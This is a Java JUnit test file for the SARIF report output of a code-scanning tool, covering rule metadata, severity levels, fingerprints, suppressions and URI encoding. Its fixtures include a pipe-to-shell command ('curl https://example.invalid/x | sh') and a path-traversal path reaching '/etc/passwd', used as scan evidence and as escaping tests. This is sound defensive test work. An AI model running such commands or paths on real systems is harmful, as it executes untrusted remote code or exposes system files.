package dev.assay.engine.report;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.assay.engine.model.Coverage;
import dev.assay.engine.model.Evidence;
import dev.assay.engine.model.Finding;
import dev.assay.engine.model.Report;
import dev.assay.engine.model.Severity;
import dev.assay.engine.model.Triage;
import java.io.IOException;
import java.math.BigDecimal;
import java.net.URI;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.Test;

class SarifReportTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    @Test
    void sampleIsAValidSarifLog() throws IOException {
        JsonNode log = sarif(Reports.sample());
        assertValidSarif(log);
        assertEquals("2.1.0", log.get("version").asText());
        assertEquals(1, log.get("runs").size());
        JsonNode driver = log.at("/runs/0/tool/driver");
        assertEquals("assay", driver.get("name").asText());
        assertEquals("0.1.0", driver.get("version").asText());
        assertTrue(driver.get("informationUri").asText().startsWith("https://"));
        List<String> ruleIds = new ArrayList<>();
        driver.get("rules").forEach(r -> ruleIds.add(r.get("id").asText()));
        assertEquals(List.of("ST-DOC-004", "ST-EXEC-002", "ST-EXEC-003", "ST-SECRET-001"), ruleIds);
        JsonNode secretRule = driver.get("rules").get(3);
        assertEquals("Hard-coded API key", secretRule.get("name").asText());
        assertEquals("Hard-coded API key", secretRule.at("/shortDescription/text").asText());
        assertEquals("Remove the key and rotate it.", secretRule.at("/fullDescription/text").asText());
        assertEquals("Remove the key and rotate it.", secretRule.at("/help/text").asText());
        assertEquals("critical", secretRule.at("/properties/severity").asText());
        assertEquals("credentials", secretRule.at("/properties/category").asText());
        assertEquals("malicious_indicator", secretRule.at("/properties/threatClass").asText());
        assertEquals("ASI03", secretRule.at("/properties/controls/0").asText());
    }

    @Test
    void resultsFollowTheReportOrderWithFingerprintsAndLocations() throws IOException {
        JsonNode results = sarif(Reports.sample()).at("/runs/0/results");
        List<String> ids = new ArrayList<>();
        results.forEach(r -> ids.add(r.get("ruleId").asText()));
        assertEquals(List.of("ST-SECRET-001", "ST-EXEC-002", "ST-EXEC-003", "ST-DOC-004"), ids);

        JsonNode curl = results.get(1);
        assertEquals("fail", curl.get("kind").asText());
        assertEquals("error", curl.get("level").asText());
        assertEquals("Message for ST-EXEC-002 on scripts/run.sh", curl.at("/message/text").asText());
        assertEquals("fp-st-exec-002-scripts/run.sh", curl.at("/partialFingerprints/assay~1v2").asText());
        JsonNode region = curl.at("/locations/0/physicalLocation/region");
        assertEquals(3, region.get("startLine").asInt());
        assertEquals(5, region.get("endLine").asInt());
        assertEquals("curl https://example.invalid/x | sh", region.at("/snippet/text").asText());
        assertEquals("scripts/run.sh", curl.at("/locations/0/physicalLocation/artifactLocation/uri").asText());
        assertEquals("high", curl.at("/properties/severity").asText());
        assertEquals("active", curl.at("/properties/status").asText());

        JsonNode noLine = results.get(2).at("/locations/0/physicalLocation");
        assertEquals(0, noLine.at("/region/byteOffset").asInt(-1), "a whole-file location: the empty region at its start");
        assertEquals(0, noLine.at("/region/byteLength").asInt(-1));
        assertEquals("scripts/run.sh", noLine.at("/artifactLocation/uri").asText());
    }

    @Test
    void needsReviewFindingsAreReviewResultsWithLevelNone() throws IOException {
        JsonNode review = sarif(Reports.sample()).at("/runs/0/results/3");
        assertEquals("ST-DOC-004", review.get("ruleId").asText());
        assertEquals("review", review.get("kind").asText());
        assertEquals("none", review.get("level").asText());
        assertEquals("needs-review", review.at("/properties/status").asText());
        assertEquals("medium", review.at("/properties/severity").asText());
    }

    @Test
    void severitiesMapToSarifLevels() throws IOException {
        assertEquals("error", SarifReport.level(Severity.CRITICAL));
        assertEquals("error", SarifReport.level(Severity.HIGH));
        assertEquals("warning", SarifReport.level(Severity.MEDIUM));
        assertEquals("note", SarifReport.level(Severity.LOW));
        assertEquals("note", SarifReport.level(Severity.INFO));
        List<Finding> findings = new ArrayList<>();
        for (Severity s : Severity.values()) {
            findings.add(Reports.finding("R-" + s.id(), s, "c", "s", List.of(Evidence.at("f", 1, "x"))));
        }
        JsonNode run = sarif(Reports.report(BigDecimal.ONE, findings, List.of(), Reports.counts(1, 1, 1, 1, 1),
                new Coverage(1, List.of()))).at("/runs/0");
        List<String> levels = new ArrayList<>();
        run.get("results").forEach(r -> levels.add(r.get("level").asText()));
        assertEquals(List.of("error", "error", "warning", "note", "note"), levels);
        for (JsonNode result : run.get("results")) {
            JsonNode rule = run.at("/tool/driver/rules/" + result.get("ruleIndex").asInt());
            assertEquals(result.get("level").asText(), rule.at("/defaultConfiguration/level").asText());
        }
    }

    @Test
    void runPropertiesCarryTheScoreAndVersions() throws IOException {
        JsonNode p = sarif(Reports.sample()).at("/runs/0/properties");
        assertTrue(p.get("score").isNumber());
        assertEquals("38", p.get("score").asText());
        assertEquals("suspicious", p.get("level").asText());
        assertEquals("skilltotal-core", p.get("pack").asText());
        assertEquals("1.2.0", p.get("packVersion").asText());
        assertEquals(Reports.RULES_HASH, p.get("rulesHash").asText());
        assertEquals("skilltotal", p.get("formula").asText());
        assertEquals(2, p.get("formulaVersion").asInt());
        assertEquals(Reports.FORMULA_HASH, p.get("formulaHash").asText());
        assertFalse(p.at("/attestation/eligible").asBoolean());
        String text = ReportWriters.render(Reports.report(new BigDecimal("7.2E+1"), List.of(), List.of(),
                Reports.counts(0, 0, 0, 0, 0), new Coverage(0, List.of())), ReportFormat.SARIF);
        assertTrue(text.contains("\"score\": 72,"), text);
    }

    @Test
    void emptyReportIsStillValid() throws IOException {
        JsonNode log = sarif(Reports.empty());
        assertValidSarif(log);
        assertEquals(0, log.at("/runs/0/results").size());
        assertEquals(0, log.at("/runs/0/tool/driver/rules").size());
    }

    @Test
    void hostilePathsBecomeValidRelativeUris() throws IOException, URISyntaxException {
        List<String> paths = List.of("dir with space/a b.py", "c:evil.py", "100%/x?y#z.js", "ünï/日本.md", "a\\b|c<d>.sh",
                "q\"u`o'te.txt", "../up/../../etc/passwd");
        List<Finding> findings = new ArrayList<>();
        for (int i = 0; i < paths.size(); i++) {
            findings.add(Reports.finding("P-" + i, Severity.HIGH, "c", "s", List.of(Evidence.at(paths.get(i), i + 1, "x"))));
        }
        JsonNode log = sarif(Reports.report(BigDecimal.ONE, findings, List.of(), Reports.counts(0, paths.size(), 0, 0, 0),
                new Coverage(1, List.of())));
        assertValidSarif(log);
        for (int i = 0; i < paths.size(); i++) {
            String uri = log.at("/runs/0/results/" + i + "/locations/0/physicalLocation/artifactLocation/uri").asText();
            URI parsed = new URI(uri);
            assertFalse(parsed.isAbsolute(), uri);
            assertEquals(paths.get(i), parsed.getPath(), "decodes back to the evidence path");
        }
        assertEquals("c%3Aevil.py", SarifReport.uri("c:evil.py"));
        assertEquals("100%25/x%3Fy%23z.js", SarifReport.uri("100%/x?y#z.js"));
    }

    @Test
    void evidenceWithoutLineOrFileStaysValid() throws IOException {
        Finding f = Reports.finding("L-1", Severity.MEDIUM, "c", "s", List.of(
                new Evidence("perm.sh", 0, 0, "mode 0777"), new Evidence("", 0, 0, "server: evil"), new Evidence("", 0, 0, "")));
        JsonNode result = sarif(Reports.report(BigDecimal.ONE, List.of(f), List.of(), Reports.counts(0, 0, 1, 0, 0),
                new Coverage(1, List.of()))).at("/runs/0/results/0");
        assertEquals(2, result.get("locations").size(), "a location with neither file nor snippet is dropped");
        assertEquals("mode 0777", result.at("/locations/0/message/text").asText());
        assertEquals(0, result.at("/locations/0/physicalLocation/region/byteLength").asInt(-1));
        assertEquals("server: evil", result.at("/locations/1/message/text").asText());
        assertFalse(result.at("/locations/1").has("physicalLocation"));
    }

    @Test
    void triagedFindingsCarrySuppressionsWithTheirReason() throws IOException {
        Finding a = Reports.finding("S-1", Severity.HIGH, "c", "s", List.of(Evidence.at("a.sh", 2, "x")));
        Finding b = Reports.finding("S-2", Severity.LOW, "c", "s", List.of(Evidence.at("b.sh", 2, "y")));
        Report base = Reports.report(BigDecimal.TEN, List.of(), List.of(), Reports.counts(0, 0, 0, 0, 0),
                new Coverage(1, List.of()));
        Triage triage = new Triage(1, 1, List.of(
                new Triage.Triaged(Finding.SUPPRESSED, "test fixture", ".assay.yaml", "2027-01-01", a),
                new Triage.Triaged(Finding.BASELINE, "accepted in baseline", "b.json", null, b)), List.of(), List.of());
        Report r = new Report(base.schemaVersion(), base.scannerVersion(), base.scorer(), base.formula(),
                base.formulaVersion(), base.formulaHash(), base.pack(), base.packVersion(), base.rulesHash(),
                base.target(), base.score(), base.level(), base.attestation(), base.verdict(), base.counts(),
                base.findings(), base.needsReview(), base.capabilities(), base.coverage(), base.generatedAt(), triage);
        JsonNode log = sarif(r);
        assertValidSarif(log);
        JsonNode results = log.at("/runs/0/results");
        assertEquals(2, results.size());
        assertEquals("external", results.at("/0/suppressions/0/kind").asText());
        assertEquals("test fixture", results.at("/0/suppressions/0/justification").asText());
        assertEquals("suppressed", results.at("/0/properties/status").asText());
        assertEquals("unchanged", results.at("/1/baselineState").asText());
        assertEquals("accepted in baseline", results.at("/1/suppressions/0/justification").asText());
        assertEquals(1, log.at("/runs/0/properties/suppressed").asInt());
    }

    @Test
    void duplicateIdsShareOneRule() throws IOException {
        Finding a = Reports.finding("D-1", Severity.HIGH, "c", "one", List.of());
        Finding b = Reports.finding("D-1", Severity.HIGH, "c", "two", List.of());
        JsonNode run = sarif(Reports.report(BigDecimal.ONE, List.of(a, b), List.of(Reports.review(a)),
                Reports.counts(0, 2, 0, 0, 0), new Coverage(1, List.of()))).at("/runs/0");
        assertEquals(1, run.at("/tool/driver/rules").size());
        assertEquals(3, run.get("results").size());
        run.get("results").forEach(r -> assertEquals(0, r.get("ruleIndex").asInt()));
    }

    private static JsonNode sarif(Report report) throws IOException {
        String text = ReportWriters.render(report, ReportFormat.SARIF);
        assertTrue(text.endsWith("}\n"));
        assertEquals(text, new String(text.getBytes(StandardCharsets.UTF_8), StandardCharsets.UTF_8));
        return JSON.readTree(text);
    }

    /**
     * The essentials of the SARIF 2.1.0 schema and spec that consumers rely on, checked by hand (no network, no schema
     * file): required properties, enums, ranges, rule references and the kind/level rule of §3.27.10.
     */
    static void assertValidSarif(JsonNode log) {
        require(log.isObject(), "log is an object");
        require("2.1.0".equals(log.path("version").asText()), "version is 2.1.0");
        require(log.path("runs").isArray(), "runs is an array");
        for (JsonNode run : log.get("runs")) {
            JsonNode driver = run.at("/tool/driver");
            require(driver.isObject(), "run.tool.driver exists");
            require(driver.path("name").isTextual() && !driver.get("name").asText().isEmpty(), "driver.name");
            JsonNode rules = driver.path("rules");
            require(rules.isMissingNode() || rules.isArray(), "rules is an array");
            Set<String> ruleIds = new HashSet<>();
            for (JsonNode rule : rules) {
                require(rule.path("id").isTextual(), "rule.id is a string");
                require(ruleIds.add(rule.get("id").asText()), "rule ids are unique");
                for (String message : List.of("shortDescription", "fullDescription", "help")) {
                    if (rule.has(message)) {
                        require(rule.get(message).path("text").isTextual(), "rule." + message + ".text");
                    }
                }
                if (rule.has("defaultConfiguration")) {
                    requireLevel(rule.at("/defaultConfiguration/level"));
                }
            }
            require(run.path("results").isArray(), "results is an array");
            for (JsonNode result : run.get("results")) {
                require(result.at("/message/text").isTextual() && !result.at("/message/text").asText().isEmpty(),
                        "result.message.text");
                String ruleId = result.path("ruleId").asText();
                int index = result.path("ruleIndex").asInt(-1);
                require(index >= 0 && index < rules.size(), "ruleIndex within rules");
                require(rules.get(index).get("id").asText().equals(ruleId), "rules[ruleIndex].id == ruleId");
                String kind = result.path("kind").asText("fail");
                require(Set.of("notApplicable", "pass", "fail", "review", "open", "informational").contains(kind), "kind enum");
                requireLevel(result.path("level"));
                if (!kind.equals("fail")) {
                    require(result.path("level").asText("none").equals("none"), "level is none when kind is not fail");
                }
                for (JsonNode location : result.path("locations")) {
                    JsonNode physical = location.path("physicalLocation");
                    if (!physical.isMissingNode()) {
                        require(physical.has("artifactLocation") || physical.has("address"), "physicalLocation has a target");
                        try {
                            new URI(physical.at("/artifactLocation/uri").asText());
                        } catch (URISyntaxException e) {
                            fail("artifactLocation.uri is not a URI: " + e.getMessage());
                        }
                        JsonNode region = physical.path("region");
                        if (!region.isMissingNode() && !region.has("byteOffset")) {
                            require(region.path("startLine").asInt(0) >= 1, "region.startLine >= 1");
                            require(region.path("endLine").asInt(Integer.MAX_VALUE) >= region.get("startLine").asInt(),
                                    "region.endLine >= startLine");
                        }
                    }
                    if (location.has("message")) {
                        require(location.at("/message/text").isTextual(), "location.message.text");
                    }
                }
                JsonNode fingerprints = result.path("partialFingerprints");
                fingerprints.forEach(v -> require(v.isTextual(), "fingerprints are strings"));
            }
        }
    }

    private static void requireLevel(JsonNode level) {
        require(level.isMissingNode() || Set.of("none", "note", "warning", "error").contains(level.asText()), "level enum");
    }

    private static void require(boolean condition, String what) {
        if (!condition) {
            fail("invalid SARIF: " + what);
        }
    }
}
